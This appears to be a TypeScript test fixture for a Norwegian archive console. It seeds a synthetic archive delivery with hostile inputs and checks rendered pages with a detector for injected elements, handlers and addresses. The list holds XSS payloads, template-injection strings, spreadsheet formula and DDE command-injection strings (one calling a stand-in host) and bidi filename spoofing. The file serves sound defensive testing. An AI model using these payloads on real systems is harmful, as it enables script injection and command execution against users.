import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eksporter } from '../../../../src/eksport/eksporter.ts';
import { skrivKonfig } from '../../../../src/eksport/finn-virksomhet.ts';
import { demoVirksomhet } from '../../../../src/konfig/standard.ts';
import { skrivLeveranse, type Testsak } from '../../../eksport/hjelp/leveranse.ts';
import { NAA } from '../../fyll.ts';
import { merkerI } from '../sider-i-test.ts';
import { PLAN, SYNTETISK_FNR, type Arkivdata } from '../arkiv-data.ts';

/** What somebody writes into an archive, or into a form, in the hope that a page takes it for its own. */
export const FIENDTLIG: readonly string[] = [
  '<script>window.ond=1</script>',
  '"><img src=x onerror="window.ond=2">',
  "'><svg onload=window.ond=3>",
  '</title></textarea></script></style><script>window.ond=4</script>',
  'brudd" data-brudd="ja" autofocus onfocus="window.ond=5',
  "brudd' data-brudd='ja' onmouseover='window.ond=6",
  'javascript:window.ond=7',
  '--><b data-brudd="ja">]]></b>',
  '&lt;img src=x onerror=window.ond=8&gt; &#60;script&#62;window.ond=9&#60;/script&#62;',
  '{{7*7}} ${window.ond=10} <%= 7 %>',
  '=HYPERLINK("http://ond.example/"&A1;"klikk")',
  '@SUM(1+1)*cmd|/C calc!A0',
  '+47;"\r\n=1+1',
  'Faktura \u202egnp.exe\u202c og \u2066isolert\u2069 \u200f\u200b',
  `Lang ${'tittel '.repeat(1428)}`,
  'Ord\u0301\u0301\u0301\u0301\u0301\u0301\u0301 \u{1f4a3}\ufffd\ufeff',
];

const ADRESSER = ['href', 'src', 'action', 'formaction', 'xlink:href', 'srcset', 'data'];

/** What is said of what was just done takes the focus; nothing else does. */
const erMelding = (attributter: ReadonlyMap<string, string>): boolean =>
  ['status', 'alert'].includes(attributter.get('role') ?? '') && attributter.get('tabindex') === '-1';

/** What of a page is not its own: elements, handlers and addresses that no page of the console has; empty for a whole page. */
export const brudd = (html: string): readonly string[] =>
  merkerI(html).flatMap(({ navn, attributter }) => [
    ...(navn === 'script' && !/^\/_astro\//.test(attributter.get('src') ?? '') ? ['<script>'] : []),
    ...(['style', 'iframe', 'object', 'embed', 'base', 'img'].includes(navn) ? [`<${navn}>`] : []),
    ...[...attributter.keys()].filter((a) => /^(?:on|style$|srcdoc$|data-brudd$)/.test(a)),
    ...(attributter.has('autofocus') && !erMelding(attributter) ? ['autofocus'] : []),
    ...ADRESSER.filter((a) =>
      /^\s*(?:javascript|data|vbscript):|ond\.example/i.test(attributter.get(a) ?? ''),
    ),
  ]);

const saker = (): readonly Testsak[] => [
  {
    id: 'ond-1',
    nr: 1,
    enhet: PLAN,
    tittel: FIENDTLIG.slice(0, 4).join(' '),
    mer: FIENDTLIG.slice(0, 3)
      .map((tekst) => `<noekkelord>${tekst.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</noekkelord>`)
      .join(''),
    poster: FIENDTLIG.map((tittel, i) => ({
      id: `ond-1-${i + 1}`,
      nr: i + 1,
      tittel,
      avsender: FIENDTLIG[(i + 3) % FIENDTLIG.length] ?? '',
    })),
  },
  {
    id: 'ond-2',
    nr: 2,
    enhet: PLAN,
    tittel: 'Holdt',
    poster: FIENDTLIG.map((tekst, i) => ({
      id: `ond-2-${i + 1}`,
      nr: i + 1,
      // Held by the gate, so that it is on the work lists.
      tittel: `${tekst.slice(0, 300)} ${SYNTETISK_FNR}`,
    })),
  },
  // The name of a unit stands in lists, in filters and in the log.
  ...FIENDTLIG.slice(0, 6).map((enhet, i) => ({
    id: `ond-${i + 3}`,
    nr: i + 3,
    enhet,
    tittel: enhet,
    poster: [
      {
        id: `ond-${i + 3}-1`,
        nr: 1,
        tittel: `${enhet} ${SYNTETISK_FNR}`,
        skjerming: { kode: i % 2 === 0 ? 'XX' : 'U', elementer: [] },
      },
    ],
  })),
];

/** A data folder whose only delivery is written by somebody who wishes us ill. */
export async function fyllFiendtlig(): Promise<Arkivdata> {
  const rot = mkdtempSync(join(tmpdir(), 'konsoll-ond-'));
  const data = join(rot, 'data');
  mkdirSync(data);
  const navn = 'Fjordvik kommune';
  const virksomhet = { ...demoVirksomhet(), slug: 'fjordvik', navn, arkivskaperNavn: navn };
  skrivKonfig(join(data, 'konfig.json'), { virksomheter: [virksomhet] });
  const sti = skrivLeveranse(join(rot, 'ond'), saker(), { navn });
  await eksporter({ format: 'noark5', sti, data, klokke: () => NAA, virksomhet: 'fjordvik' });
  return { data, rydd: () => rmSync(rot, { recursive: true, force: true }) };
}
